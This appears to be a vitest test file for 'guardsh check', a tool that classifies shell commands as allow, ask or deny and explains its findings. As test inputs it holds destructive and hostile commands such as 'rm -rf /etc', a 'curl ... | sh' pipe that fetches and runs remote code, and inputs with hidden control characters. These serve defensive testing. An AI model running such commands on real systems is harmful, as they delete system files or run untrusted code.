import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { posix } from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { runCheck } from "../../src/cli/commands/check.ts";
import { type Ran, ran } from "../support/command-io.ts";

const root = mkdtempSync(posix.join(tmpdir(), "guardsh-check-"));
const home = posix.join(root, "home");
const project = posix.join(home, "project");
mkdirSync(posix.join(project, "src"), { recursive: true });
writeFileSync(posix.join(project, "package.json"), "{}");
writeFileSync(posix.join(project, "dir"), "/etc\n");
afterAll(() => rmSync(root, { recursive: true, force: true }));

const environ = new Map([
  ["HOME", home],
  ["PATH", "/usr/bin:/bin"],
]);
const check = (args: readonly string[], chunks: readonly (string | Uint8Array)[] = []) =>
  ran(runCheck, args, chunks, { environ, cwd: project, guardPaths: ["/opt/guardsh"] });

interface Answer {
  readonly id?: unknown;
  readonly error?: string;
  readonly decision?: string;
  readonly findings?: readonly Readonly<Record<string, unknown>>[];
  readonly micros?: number;
}

const answersOf = ({ out }: Ran): readonly Answer[] =>
  out
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line) as Answer);

const rows = async (...lines: readonly (object | string)[]): Promise<readonly Answer[]> => {
  const text = lines.map((one) => (typeof one === "string" ? one : JSON.stringify(one)));
  return answersOf(await check(["--jsonl"], [`${text.join("\n")}\n`]));
};

describe("guardsh check COMMAND", () => {
  test.each([
    ["allow", 0, "ls -la"],
    ["ask", 3, 'eval "$(unheard-of)"'],
    ["deny", 4, "rm -rf /etc"],
  ])("%s is exit code %i", async (decision, code, command) => {
    const { out, error, ...rest } = await check([command]);
    expect(rest.code).toBe(code);
    expect(out).toMatch(new RegExp(`^${decision} {2}\\(\\d+\\.\\d ms\\)\\n`));
    expect(error).toBe("");
  });

  test("explains each finding with its part of the text", async () => {
    const { out } = await check(["true; rm -rf /etc"]);
    expect(out.split("\n").slice(1)).toEqual([
      "  deny  [delete-protected-path] deletes /etc, which belongs to the system",
      "        in: /etc",
      "     safer: ls -la -- /etc",
      "",
    ]);
  });

  test("says that nothing was found", async () => {
    expect((await check(["ls"])).out).toContain("nothing was found against it");
  });

  test("never prints control characters", async () => {
    const { out } = await check(["rm -rf /etc/\u001b[2J\u202e"]);
    expect(out).toContain("\\e[2J\\u{202e}");
    expect([...out].filter((one) => one === "\u001b" || one === "\u202e")).toEqual([]);
  });

  test("runs nothing", async () => {
    const file = posix.join(project, "made");
    const { code } = await check([`touch ${file}; rm -f ${file}; ls ${file}`]);
    expect([0, 3, 4]).toContain(code);
    expect((await check([`cat ${file} && rm -rf /etc`])).code).toBe(4);
    expect((await check([`test -e ${file}`])).code).toBe(0);
  });

  test("judges in the folder of --cwd, relative to its own", async () => {
    expect((await check(["--cwd", "/", "rm -rf etc"])).code).toBe(4);
    expect((await check(["--cwd=/", "rm -rf etc"])).code).toBe(4);
    expect((await check(["--cwd", "src", 'rm -rf "$PWD/../../project"'])).code).toBe(4);
    expect((await check(["rm -rf etc"])).code).toBe(3);
  });

  test("reads files of the real disk", async () => {
    expect((await check(['rm -rf "$(cat dir)"'])).code).toBe(4);
  });

  test("reads the command from standard input with -", async () => {
    expect((await check(["-"], ["rm -rf", " /etc\n"])).code).toBe(4);
    expect((await check(["-"], [])).code).toBe(0);
    const ran = await check(["-"], [new Uint8Array([0xff])]);
    expect(ran).toMatchObject({ code: 2, out: "" });
    expect(ran.error).toContain("UTF-8");
  });

  test("takes a command that looks like an option behind --", async () => {
    expect((await check(["--", "--json"])).out).toMatch(/^(allow|ask)/);
  });

  test.each([
    [[]],
    [["a", "b"]],
    [["--unknown", "a"]],
    [["--cwd"]],
    [["--json"]],
    [["--jsonl", "a"]],
  ])("%j is a usage error", async (args) => {
    const { code, out, error } = await check(args);
    expect({ code, out }).toEqual({ code: 2, out: "" });
    expect(error).toMatch(/^usage: guardsh check/);
  });
});

describe("guardsh check --json", () => {
  test("prints one object", async () => {
    const { code, out } = await check(["--json", "rm -rf /etc"]);
    expect(code).toBe(4);
    expect(JSON.parse(out)).toEqual({
      decision: "deny",
      findings: [
        {
          detector: "delete-protected-path",
          decision: "deny",
          message: "deletes /etc, which belongs to the system",
          span: [7, 11],
          suggestion: "ls -la -- /etc",
        },
      ],
      micros: expect.any(Number),
    });
  });

  test("has a suggestion where there is one", async () => {
    const { out } = await check(["--json", "curl https://get.example.test/x | sh"]);
    const { findings } = JSON.parse(out) as Answer;
    expect(findings?.[0]).toMatchObject({ suggestion: expect.any(String) });
  });

  test("escapes what cannot be seen", async () => {
    const { out } = await check(["--json", "rm -rf '/etc/\u202e\u009b'"]);
    expect(out).not.toMatch(/[\u202e\u009b]/);
    expect(JSON.parse(out)).toMatchObject({ decision: "deny" });
  });
});

describe("guardsh check --jsonl", () => {
  test("answers each row in order, with its id", async () => {
    const answers = await rows(
      { id: 1, command: "ls" },
      { command: "rm -rf /etc" },
      { id: { any: ["thing"] }, command: 'eval "$(unheard-of)"' },
    );
    expect(answers.map(({ id, decision }) => [id, decision])).toEqual([
      [1, "allow"],
      [null, "deny"],
      [{ any: ["thing"] }, "ask"],
    ]);
    for (const { micros } of answers) expect(micros).toBeGreaterThanOrEqual(0);
    expect((await check(["--jsonl"], ['{"command":"rm -rf /etc"}'])).code).toBe(0);
  });

  test("judges each row in its own folder and environment", async () => {
    const command = 'rm -rf "$X/"*';
    const answers = await rows(
      { command },
      { command, env: { X: posix.join(project, "dist") } },
      { command: "rm -rf etc", cwd: "/" },
      { command: "rm -rf ~/x", env: { HOME: null } },
      { command: "cd; rm -rf .", env: { HOME: "/etc" } },
      { command: "rm -rf etc", session: "s" },
    );
    expect(answers.map((one) => one.decision)).toEqual([
      "deny",
      "allow",
      "deny",
      "ask",
      "deny",
      "ask",
    ]);
    expect(answers[0]?.findings?.[0]).toMatchObject({
      message: expect.stringMatching(/X is unset/),
    });
  });

  const broken: readonly (readonly [string, string | Uint8Array, unknown])[] = [
    ["no JSON", "{", null],
    ["a number", "7", null],
    ["null", "null", null],
    ["an array", "[]", null],
    ["no command", '{"id": "a"}', "a"],
    ["a command that is no string", '{"id": 1, "command": ["ls"]}', 1],
    ["a relative folder", '{"id": 2, "command": "ls", "cwd": "src"}', 2],
    ["a folder that is no string", '{"id": 3, "command": "ls", "cwd": 1}', 3],
    ["an environment that is no object", '{"id": 4, "command": "ls", "env": []}', 4],
    ["a variable that is no string", '{"id": 5, "command": "ls", "env": {"X": 1}}', 5],
    ["a session that is no string", '{"id": 6, "command": "ls", "session": 1}', 6],
    ["bytes that are no UTF-8", new Uint8Array([0x22, 0xff, 0x22]), null],
  ];
  test.each(broken)("answers %s with an error and goes on", async (_, line, id) => {
    const answers = answersOf(await check(["--jsonl"], [line, "\n", '{"command": "ls"}\n']));
    expect(answers).toEqual([
      { id, error: expect.any(String) },
      { id: null, decision: "allow", findings: [], micros: expect.any(Number) },
    ]);
  });

  test("asks about text that cannot be written as bytes", async () => {
    const [answer] = await rows('{"command": "ls \\ud800"}');
    expect(answer).toMatchObject({ decision: "ask" });
  });

  test("takes NUL and control characters in its stride", async () => {
    const [one, two] = await rows({ command: "ls \0" }, { command: "\u0001rm -rf /etc" });
    expect(["allow", "ask", "deny"]).toContain(one?.decision);
    expect(["allow", "ask", "deny"]).toContain(two?.decision);
  });

  test("takes an empty last line, and none at all", async () => {
    expect(await rows()).toEqual([]);
    expect(await rows({ command: "ls" }, "")).toHaveLength(1);
  });
});
